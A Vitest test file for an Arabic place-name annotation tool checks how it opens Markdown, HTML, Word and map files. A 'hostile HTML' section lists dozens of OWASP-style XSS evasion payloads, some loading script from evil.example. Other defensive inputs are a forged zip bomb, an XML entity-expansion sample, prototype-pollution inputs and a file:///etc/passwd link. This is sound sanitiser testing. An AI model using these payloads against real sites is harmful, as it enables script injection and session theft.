import { readFileSync } from 'node:fs';
import { JSDOM } from 'jsdom';
import JSZip from 'jszip';
import { describe, expect, it, vi } from 'vitest';
import { joinBlocks } from '../domain/article/join-blocks.ts';
import { anchorAt } from '../domain/correction/anchor.ts';
import { applyCorrections } from '../domain/correction/apply-corrections.ts';
import type { Correction, Decision, NameCorrection } from '../domain/correction/correction.ts';
import { type AnnotatedArticle, annotatedArticle } from '../domain/exchange/annotated-article.ts';
import { toCsv } from '../domain/exchange/csv.ts';
import { decidedFor, withDecisions } from '../domain/exchange/decided.ts';
import { toGeoJson } from '../domain/exchange/geojson.ts';
import { toKml } from '../domain/exchange/kml.ts';
import { toTei } from '../domain/exchange/tei.ts';
import { toWebAnnotation } from '../domain/exchange/web-annotation.ts';
import { placeId } from '../domain/gazetteer/place.ts';
import { recognise } from '../domain/recognition/recognise.ts';
import { newsGazetteer } from '../domain/testdata/news-places.ts';
import type { OpenProblemKind } from '../state/open-slice.ts';
import { docxToHtml } from './docx-to-html.ts';
import type { HtmlWindow } from './open-html.ts';
import { MOST_BYTES, type OpenOutcome, openBytes, openHtml, openText, type Reader } from './open-source.ts';

const page = new JSDOM('').window as unknown as HtmlWindow;
const reader: Reader = { window: async () => page, readDocx: docxToHtml };
const bytesOf = (text: string) => new TextEncoder().encode(text);

const LONG =
  'وصل الوفد إلى القاهرة أمس، ثم عاد من القاهرة إلى الدوحة بعد محادثات دامت يومين، وقالت مصر وقطر إنها مثمرة، وينتظر الناس في رفح نتائجها.';

function value(outcome: OpenOutcome) {
  if (!outcome.ok) throw new Error(outcome.problem);
  return outcome.value;
}

/** A block in short: its kind with level or numbering, and its text. */
const short = (outcome: OpenOutcome) =>
  value(outcome).blocks.map(({ kind, level, ordered, text }) => [
    kind + (level ?? '') + (ordered === undefined ? '' : ordered ? '1' : '•'),
    text,
  ]);

/** A Word document with these paragraphs in its body, as the format's own XML. */
async function docx(body: string, more: Readonly<Record<string, string>> = {}): Promise<Uint8Array> {
  const zip = new JSZip();
  const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
  const office = 'http://schemas.openxmlformats.org';
  zip.file(
    '[Content_Types].xml',
    `${head}<Types xmlns="${office}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
  );
  zip.file(
    '_rels/.rels',
    `${head}<Relationships xmlns="${office}/package/2006/relationships"><Relationship Id="r1" Type="${office}/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
  );
  zip.file(
    'word/document.xml',
    `${head}<w:document xmlns:w="${office}/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
  );
  for (const [name, text] of Object.entries(more)) zip.file(name, text);
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

const styles = (...names: readonly string[]) =>
  `<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${names
    .map(
      (name) =>
        `<w:style w:type="paragraph" w:styleId="${name.replace(' ', '')}"><w:name w:val="${name}"/></w:style>`,
    )
    .join('')}</w:styles>`;

const paragraph = (text: string, style = '') =>
  `<w:p>${style && `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>`}<w:r><w:t>${text}</w:t></w:r></w:p>`;

describe('a Markdown text', () => {
  const SOURCE = `# محادثات القاهرة

وصل **الوفد** إلى [القاهرة](https://example.org/a) اليوم
ثم عاد.

## ما بعدها

- الدوحة
- بغداد
  1. كركوك

> قال الوزير كلامًا.

# ختام
`;

  it('becomes blocks of every kind, its first heading the title', async () => {
    const outcome = await openText(SOURCE, 'news.md', reader);
    expect(value(outcome).title).toBe('محادثات القاهرة');
    expect(short(outcome)).toEqual([
      ['heading1', 'محادثات القاهرة'],
      ['paragraph', 'وصل الوفد إلى القاهرة اليوم ثم عاد.'],
      ['heading2', 'ما بعدها'],
      ['list-item•', 'الدوحة'],
      ['list-item•', 'بغداد'],
      ['list-item1', 'كركوك'],
      ['quotation', 'قال الوزير كلامًا.'],
      ['heading2', 'ختام'],
    ]);
  });

  it('keeps links where they stand', async () => {
    const block = value(await openText(SOURCE, 'news.md', reader)).blocks[1];
    const link = block?.links?.[0];
    expect(link?.href).toBe('https://example.org/a');
    expect(block?.text.slice(link?.start, link?.end)).toBe('القاهرة');
  });

  it('is known by its signs when it was pasted, and left alone as .txt', async () => {
    expect(short(await openText(SOURCE, null, reader))[0]?.[0]).toBe('heading1');
    expect(short(await openText(SOURCE, 'news.txt', reader))[0]?.[1]).toBe('# محادثات القاهرة');
  });

  it('has a paragraph a line where nobody wrapped its lines', async () => {
    const outcome = await openText(`# عنوان\n${LONG}\nقصير.\n- بند\n- آخر\n\n> قول`, null, reader);
    expect(short(outcome).map(([kind]) => kind)).toEqual([
      'heading1',
      'paragraph',
      'paragraph',
      'list-item•',
      'list-item•',
      'quotation',
    ]);
    const wrapped = await openText('# عنوان\nسطر أول من فقرة\nوسطر ثان منها.', null, reader);
    expect(short(wrapped).map(([kind]) => kind)).toEqual(['heading1', 'paragraph']);
  });

  it('takes its title from the data above it where it has no heading', async () => {
    const outcome = await openText('---\ntitle: "خبر <اليوم>"\n---\nوصل الوفد.', 'a.md', reader);
    expect(value(outcome)).toMatchObject({ title: 'خبر <اليوم>' });
    expect(short(outcome)).toEqual([
      ['heading1', 'خبر <اليوم>'],
      ['paragraph', 'وصل الوفد.'],
    ]);
  });
});

describe('an HTML page', () => {
  const ARTICLE = `<h1>وصول الوفد</h1>${`<p>${LONG}</p>`.repeat(5)}<h3>ما بعد</h3><ol><li>الدوحة، عاصمة قطر<li>بغداد، عاصمة العراق</ol>`;
  const PAGE = `<!doctype html><html lang="ar-EG"><head><title>وصول الوفد - صحيفة</title></head><body>
    <nav><a href="/">الرئيسية</a><a href="/sport">رياضة القاهرة</a></nav><article>${ARTICLE}</article>
    <footer>حقوق النشر لدار بيروت</footer></body></html>`;

  it('gives its article without what stands around it', async () => {
    const outcome = await openText(PAGE, 'page.html', reader);
    expect(value(outcome)).toMatchObject({ title: 'وصول الوفد', language: 'ar-EG' });
    const text = value(outcome).blocks.map((block) => block.text);
    expect(text.filter((each) => each === LONG)).toHaveLength(5);
    expect(short(outcome)).toContainEqual(['list-item1', 'الدوحة، عاصمة قطر']);
    expect(text.join()).not.toMatch(/رياضة|حقوق/u);
  });

  describe('too short for Readability', () => {
    const around = (article: string) =>
      `<!doctype html><html><head><title>الجزيرة نت | عاجل</title></head><body>
      <header><a href="/">الجزيرة</a><button>ابحث</button></header>
      <nav><a href="#">الرئيسية</a><a>أخبار مصر</a></nav>${article}
      <div role="menu">رياضة</div><footer>حقوق النشر لدار بيروت</footer></body></html>`;
    const TEXT = 'التقى وزير الخارجية الأردني نظيره السوري في عمّان.';

    it.each(['article', 'main'])('gives what its one <%s> holds, headed by its <h1>', async (name) => {
      const html = around(
        `<${name}><header><p>سياسة</p><h1>اجتماع<br>في عمّان</h1></header><p>${TEXT}<button>شارك</button></p></${name}>`,
      );
      const outcome = await openText(html, 'x.html', reader);
      expect(value(outcome).title).toBe('اجتماع في عمّان');
      expect(short(outcome)).toEqual([
        ['heading1', 'اجتماع في عمّان'],
        ['paragraph', 'سياسة'],
        ['paragraph', TEXT],
      ]);
    });

    it('keeps every article where several have a headline', async () => {
      const html = around(
        `<article><h1>أول</h1><p>${TEXT}</article><article><h1>ثان</h1><p>${TEXT}</article>`,
      );
      expect(short(await openText(html, 'x.html', reader))).toEqual([
        ['heading1', 'أول'],
        ['paragraph', TEXT],
        ['heading2', 'ثان'],
        ['paragraph', TEXT],
      ]);
    });

    it('takes no heading for a headline that only listeners are told', async () => {
      const html = around(
        `<main><h1 class="sr-only">صحيفة</h1><article><h1>اجتماع</h1><p>${TEXT}</article></main>`,
      );
      expect(short(await openText(html, 'x.html', reader))).toEqual([
        ['heading1', 'اجتماع'],
        ['paragraph', TEXT],
      ]);
      const untold = html.replace('<h1>اجتماع</h1>', '');
      expect(value(await openText(untold, 'x.html', reader)).blocks).toHaveLength(2);
    });

    it('keeps the text that stands beside an article of a headline alone', async () => {
      const html = around(`<article><h1>اجتماع</h1></article><div>${TEXT}</div>`);
      expect(short(await openText(html, 'x.html', reader))).toEqual([
        ['heading1', 'اجتماع'],
        ['paragraph', TEXT],
      ]);
    });

    it('keeps a headline in the head of a page that marks no article, and a page that is all menu', async () => {
      const headed = `<title>ص</title><header><h1>اجتماع</h1></header><nav>رياضة</nav><p>${TEXT}`;
      expect(short(await openText(headed, 'x.html', reader))).toEqual([
        ['heading1', 'اجتماع'],
        ['paragraph', TEXT],
      ]);
      expect(short(await openText('<nav><p>أخبار مصر</nav>', 'x.html', reader))).toEqual([
        ['paragraph', 'أخبار مصر'],
      ]);
    });
  });

  it('is headed by the <h1> of its article however long it is, and whatever its title says', async () => {
    const outcome = await openText(PAGE.replace('وصول الوفد - صحيفة', 'الجزيرة نت | عاجل'), 'a.html', reader);
    const blocks = short(outcome);
    expect(blocks[0]).toEqual(['heading1', 'وصول الوفد']);
    expect(blocks.filter(([, text]) => text === 'وصول الوفد')).toHaveLength(1);
  });

  it('is taken whole where it has nothing around its text', async () => {
    const outcome = await openText(
      '<html><head><title>ص</title></head><body><h1>عنوان</h1><p>سطر أول<br>سطر ثان<ul><li>واحد<p>وفيه فقرة</ul><blockquote><p>كلام</blockquote><table><tr><td>خلية<td>أخرى</table></body></html>',
      'a.html',
      reader,
    );
    expect(short(outcome)).toEqual([
      ['heading1', 'عنوان'],
      ['paragraph', 'سطر أول'],
      ['paragraph', 'سطر ثان'],
      ['list-item•', 'واحد'],
      ['paragraph', 'وفيه فقرة'],
      ['quotation', 'كلام'],
      ['paragraph', 'خلية'],
      ['paragraph', 'أخرى'],
    ]);
  });

  it('makes its links absolute by where it came from, and drops those it cannot', async () => {
    const html =
      '<p><a href="../b?x=1">نسبي</a> و<a href="#top">داخلي</a> و<a href="mailto:a@example.org">بريد</a>';
    const hrefs = (outcome: OpenOutcome) => value(outcome).blocks[0]?.links?.map(({ href }) => href);
    expect(hrefs(await openHtml(html, 'text', reader, 'https://example.org/n/a.html'))).toEqual([
      'https://example.org/b?x=1',
      'https://example.org/n/a.html#top',
      'mailto:a@example.org',
    ]);
    expect(hrefs(await openHtml(html, 'text', reader))).toEqual(['mailto:a@example.org']);
  });

  it('is read in its own encoding', async () => {
    const html = `<html><head><meta charset="windows-1256"></head><body><p>`;
    const arabic = Uint8Array.of(0xc8, 0xdb, 0xcf, 0xc7, 0xcf);
    const outcome = await openBytes(Uint8Array.from([...bytesOf(html), ...arabic]), 'old.html', reader);
    expect(short(outcome)).toEqual([['paragraph', 'بغداد']]);
  });
});

describe('a Word document', () => {
  it('becomes headings, paragraphs, quotations and lists, its title the headline', async () => {
    const file = await docx(
      paragraph('تقرير من القاهرة', 'Title') +
        paragraph('مقدمة', 'heading1') +
        paragraph('وصل الوفد إلى بغداد.') +
        paragraph('كلام منقول', 'Quote'),
      {
        'word/styles.xml': styles('Title', 'heading 1', 'Quote'),
        'word/_rels/document.xml.rels':
          '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>',
      },
    );
    const outcome = await openBytes(file, 'report.docx', reader);
    expect(short(outcome)).toEqual([
      ['heading1', 'تقرير من القاهرة'],
      ['heading2', 'مقدمة'],
      ['paragraph', 'وصل الوفد إلى بغداد.'],
      ['quotation', 'كلام منقول'],
    ]);
  });

  it('is known by what is in it, whatever it is called', async () => {
    expect(await openBytes(await docx(paragraph('بغداد')), 'no-name', reader)).toMatchObject({ ok: true });
  });

  /** Lets every entry of the archive's directory say this size. */
  function stateSizes(zip: Uint8Array, size: number) {
    const view = new DataView(zip.buffer, zip.byteOffset);
    for (let at = 0; at < zip.length - 4; at++) {
      if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, size, true);
    }
  }

  it('that would swell beyond reason is not unpacked', async () => {
    const bomb = await docx(paragraph('بغداد'));
    stateSizes(bomb, 500 * 1024 * 1024);
    expect(await openBytes(bomb, 'bomb.docx', reader)).toEqual({ ok: false, problem: 'swelling-archive' });
  });

  it('whose directory lies about a size is found out while unpacking', async () => {
    const liar = await docx(paragraph('أ'.repeat(100_000)));
    stateSizes(liar, 10);
    expect(await openBytes(liar, 'liar.docx', reader)).toEqual({ ok: false, problem: 'swelling-archive' });
  });

  it('that is cut off is damaged', async () => {
    const whole = await docx(paragraph('بغداد'));
    const broken = whole.slice();
    broken.fill(7, 200, 400);
    expect(await openBytes(broken, 'broken.docx', reader)).toMatchObject({ ok: false });
    expect(await openBytes(whole.subarray(0, whole.length - 30), 'cut.docx', reader)).toMatchObject({
      ok: false,
    });
  });
});

const KML_ROOT = '<kml xmlns="http://www.opengis.net/kml/2.2">';
const KML = `<?xml version="1.0"?>${KML_ROOT}`;

describe('what cannot be opened is called by its name', () => {
  const hex = (digits: string) =>
    Uint8Array.from(digits.match(/../gu) ?? [], (pair) => Number.parseInt(pair, 16));
  it.each<[string, Uint8Array, OpenProblemKind]>([
    ['empty.txt', new Uint8Array(), 'empty'],
    ['blank.txt', bytesOf(' \n\t\n'), 'empty'],
    ['photo.txt', hex('89504e470d0a1a0a0000000d49484452'), 'picture'],
    ['photo.jpg', hex('ffd8ffe000104a46494600010100'), 'picture'],
    ['paper.pdf', bytesOf('%PDF-1.7 …'), 'pdf'],
    ['film.mp4', hex('00000018667479706d703432'), 'recording'],
    ['old.doc', hex('d0cf11e0a1b11ae10000'), 'old-office'],
    ['rich.rtf', bytesOf('{\\rtf1\\ansi'), 'old-office'],
    ['book.gz', hex('1f8b080000000000'), 'archive'],
    ['program', hex('7f454c460201010000'), 'program'],
    ['noise.bin', Uint8Array.from({ length: 2000 }, (_, at) => (at * 7919) % 256), 'binary'],
    ['half.json', bytesOf('{"type":"FeatureCollection","features":['), 'broken-json'],
    ['other.json', bytesOf('{"name":"القاهرة"}'), 'foreign-json'],
    ['proto.json', bytesOf('{"__proto__":{"type":"FeatureCollection"}}'), 'foreign-json'],
    ['other.xml', bytesOf('<?xml version="1.0"?><note>القاهرة</note>'), 'foreign-xml'],
    ['map.kml', bytesOf(`${KML}<Document><name>القاهرة</name></Document></kml>`), 'kml'],
    ['map.xml', bytesOf(`<!-- a map -->\n${KML_ROOT}<Document/></kml>`), 'kml'],
    ['notes.docx', bytesOf('وصل الوفد إلى القاهرة.'), 'broken-word'],
    ['cut.docx', hex('504b0304140000000800'), 'broken-word'],
    ['old.docx', hex('d0cf11e0a1b11ae10000'), 'old-office'],
    [
      'swelling.kml',
      bytesOf(
        `<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a "غزة"><!ENTITY b "&a;&a;&a;">]>${KML_ROOT}<name>&b;</name></kml>`,
      ),
      'unsafe-xml',
    ],
    ['page.html', bytesOf('<html><body><script>document.write("x")</script></body></html>'), 'empty'],
  ])('%s', async (name, bytes, problem) => {
    expect(await openBytes(bytes, name, reader)).toEqual({ ok: false, problem });
  });

  it('a backup of a library, of whichever version, which can be restored', async () => {
    for (const version of [1, 99]) {
      const text = JSON.stringify({ format: 'yaqut-library', version });
      expect(await openBytes(bytesOf(text), 'library.json', reader)).toEqual({
        ok: false,
        problem: 'backup',
        text,
      });
    }
  });

  it('a spreadsheet, which is a zip archive too', async () => {
    const zip = new JSZip();
    zip.file('xl/workbook.xml', '<workbook/>');
    const bytes = await zip.generateAsync({ type: 'uint8array' });
    expect(await openBytes(bytes, 'table.xlsx', reader)).toEqual({ ok: false, problem: 'archive' });
  });

  it('a file of 100 MB, before anything of it is read', async () => {
    const huge = new Uint8Array(100 * 1024 * 1024);
    expect(huge.length).toBeGreaterThan(MOST_BYTES);
    expect(await openBytes(huge, 'huge.txt', reader)).toEqual({ ok: false, problem: 'too-large' });
  });
});

describe('a text without Arabic', () => {
  it('opens like any other', async () => {
    const outcome = await openBytes(bytesOf('The talks in Cairo ended.'), 'en.txt', reader);
    expect(value(outcome)).toMatchObject({ title: null, language: 'und' });
  });
});

// The inputs follow the public cheat sheets of the trade: OWASP's filter evasion list and its kin.
describe('hostile HTML', () => {
  const run = vi.fn();
  const HOSTILE: readonly string[] = [
    '<script>run()</script>',
    '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
    '<scr<script>ipt>run()</scr</script>ipt>',
    '<script/xss src="https://evil.example/xss.js"></script>',
    '<<script>run();//<</script>',
    '<img src=x onerror=run()>',
    '<img src="javascript:run()">',
    '<img """><script>run()</script>">',
    '<img src=x:alert(alt) onerror=eval(src) alt=run()>',
    '<svg onload=run()>',
    '<svg><script>run()</script></svg>',
    '<svg><animate onbegin=run() attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:run()"><text x=20 y=20>x</text></a></svg>',
    '<math><mi//xlink:href="data:x,<script>run()</script>">',
    '<math><a xlink:href="javascript:run()">x</a></math>',
    '<body onload=run()>',
    '<iframe src="javascript:run()"></iframe>',
    '<iframe srcdoc="<script>run()</script>"></iframe>',
    '<object data="data:text/html,<script>run()</script>"></object>',
    '<embed src="data:text/html,<script>run()</script>">',
    '<a href="javascript:run()">x</a>',
    '<a href="JaVaScRiPt:run()">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;run()">x</a>',
    '<a href="jav&#x09;ascript:run()">x</a>',
    '<a href="jav&#x0A;ascript:run()">x</a>',
    '<a href=" &#14; javascript:run()">x</a>',
    '<a href="vbscript:run()">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://example.org/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="x" onmouseover="run()">x</a>',
    '<a href="https://ok.example/" style="background:url(javascript:run())" onclick=run()>x</a>',
    '<base href="javascript:run();//"><a href="y">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:run()">',
    '<link rel=stylesheet href="javascript:run()">',
    '<style>@import"javascript:run()";</style>',
    '<div style="width:expression(run())">x</div>',
    '<form action="javascript:run()"><input type=submit autofocus onfocus=run()></form>',
    '<button formaction="javascript:run()">x</button>',
    '<details open ontoggle=run()>x</details>',
    '<video><source onerror=run()></video>',
    '<marquee onstart=run()>x</marquee>',
    '<input onfocus=run() autofocus>',
    '<template><script>run()</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=run()>"></noscript>',
    '<!--[if gte IE 4]><script>run()</script><![endif]-->',
    '<xss id=x tabindex=1 onfocus=run()></xss>',
    '<p id="__proto__" name="constructor">x</p>',
    '<form id=a><input name=attributes><input name=childNodes></form>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=run()&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=run()>">',
  ];

  it.each(HOSTILE)('%s', async (html) => {
    vi.stubGlobal('run', run);
    for (const of of ['page', 'text'] as const) {
      const outcome = await openHtml(`<p>${LONG}</p>${html}<p>بغداد</p>`, of, reader);
      // Comments and unclosed tags may rightly swallow what follows them; never what stands before.
      const { blocks } = value(outcome);
      expect(blocks[0]?.text).toBe(LONG);
      for (const { links = [] } of blocks) {
        for (const { href } of links) expect(href).toMatch(/^https?:\/\//u);
      }
      // All that comes through is plain text and addresses: nothing that a view could run.
      expect(JSON.parse(JSON.stringify(blocks))).toEqual(blocks);
    }
    expect(run).not.toHaveBeenCalled();
    vi.unstubAllGlobals();
  });

  it.each(HOSTILE)('in Markdown: %s', async (html) => {
    const outcome = await openText(`# عنوان\n\n${LONG}\n\n${html}\n\n[x](javascript:run())`, 'a.md', reader);
    const links = value(outcome).blocks.flatMap((block) => block.links ?? []);
    expect(links.every(({ href }) => /^https?:\/\//u.test(href))).toBe(true);
  });
});

describe('one of Yaqut’s own files', () => {
  const CAIRO = placeId('t:cairo');
  const article = {
    id: 'a',
    title: 'خبر',
    language: 'ar',
    blocks: joinBlocks([
      { kind: 'heading', level: 1, text: 'خبر' },
      { kind: 'paragraph', text: LONG },
    ]),
  };
  const gazetteer = newsGazetteer();
  /** As recognised, with the first mention decided by the reader. */
  const mentions = recognise(article.blocks, gazetteer).map((mention, index) =>
    index === 0 ? { ...mention, decidedBy: 'reader' as const } : mention,
  );
  const annotated = annotatedArticle(article, mentions, gazetteer.place);

  it.each([
    ['news.geojson', () => JSON.stringify(toGeoJson(annotated))],
    ['news.json', () => JSON.stringify(toWebAnnotation(annotated, (id) => id))],
    ['news.xml', () => toTei(annotated)],
  ])('%s opens again with its text and what the reader decided', async (name, write) => {
    const { title, blocks, corrections } = value(await openBytes(bytesOf(write()), name, reader));
    expect(title).toBe('خبر');
    expect(blocks.map(({ kind, text }) => [kind, text])).toEqual(
      article.blocks.map(({ kind, text }) => [kind, text]),
    );
    expect(corrections?.corrections).toMatchObject([
      { scope: 'mention', anchor: { quote: 'القاهرة' }, decision: { kind: 'place', placeId: CAIRO } },
    ]);
  });

  const [, body] = article.blocks;
  if (!body) throw new Error('the news is empty');
  const at = LONG.indexOf('رفح');
  const notRafah: Correction = {
    scope: 'mention',
    anchor: anchorAt(body, at, at + 'رفح'.length),
    decision: { kind: 'not-a-place' },
  };
  const ofName = (name: string, decision: Decision): NameCorrection => ({
    scope: 'always',
    name,
    lightsUnlit: false,
    decision,
  });
  const notEgypt = ofName('مصر', { kind: 'not-a-place' });
  const cairo = ofName('القاهرة', { kind: 'place', placeId: CAIRO });
  const decided = decidedFor(article, { corrections: [notRafah], about: [CAIRO] }, [
    notEgypt,
    cairo,
    ofName('بيروت', { kind: 'not-a-place' }),
  ]);
  const corrected = withDecisions(
    annotatedArticle(
      article,
      applyCorrections(article.blocks, mentions, [notRafah], [notEgypt, cairo]).mentions,
      gazetteer.place,
    ),
    decided,
  );

  it.each([
    ['news.geojson', () => JSON.stringify(toGeoJson(corrected))],
    ['news.json', () => JSON.stringify(toWebAnnotation(corrected, (id) => id))],
    ['news.xml', () => toTei(corrected)],
  ])(
    '%s carries what is no place, what holds for a name, and what the text is about',
    async (name, write) => {
      const { corrections } = value(await openBytes(bytesOf(write()), name, reader));
      expect(corrections).toEqual({
        corrections: [notRafah, { ...notEgypt, scope: 'article' }, { ...cairo, scope: 'article' }],
        about: [CAIRO],
      });
    },
  );

  it('with a decision that is none is refused', async () => {
    const file = JSON.parse(JSON.stringify(toGeoJson(corrected)));
    file.yaqut.decided.corrections[0].decision.kind = 'perhaps';
    expect(await openBytes(bytesOf(JSON.stringify(file)), 'a.geojson', reader)).toMatchObject({ ok: false });
    const tei = toTei(corrected).replace('type="not-a-place"', 'type="perhaps"');
    expect(await openBytes(bytesOf(tei), 'a.xml', reader)).toMatchObject({ ok: false });
  });
});

it.each([
  ['kml', (annotated) => toKml(annotated, (id) => id, { places: 'Places', mentions: 'Mentions' })],
  ['own-csv', (annotated) => toCsv(annotated, (id) => id)],
] satisfies [string, (annotated: AnnotatedArticle) => string][])(
  'Yaqut’s own %s, which it does not read, is called so',
  async (problem, write) => {
    const article = {
      id: 'a',
      title: null,
      language: 'ar',
      blocks: joinBlocks([{ kind: 'paragraph', text: LONG }]),
    };
    const gazetteer = newsGazetteer();
    const annotated = annotatedArticle(article, recognise(article.blocks, gazetteer), gazetteer.place);
    const written = write(annotated);
    expect(await openBytes(bytesOf(written), 'x.txt', reader)).toEqual({ ok: false, problem });
    expect(await openText(written, null, reader)).toEqual({ ok: false, problem });
  },
);

it('the built-in article comes out as it is when opened as a file', async () => {
  const bytes = readFileSync('public/articles/cairo-talks.txt');
  const outcome = await openBytes(new Uint8Array(bytes), 'cairo-talks.txt', reader);
  expect(short(outcome).map(([, text]) => text)).toEqual(
    bytes
      .toString('utf8')
      .split(/\r?\n/u)
      .filter(Boolean)
      .map((line) => line.trim()),
  );
});
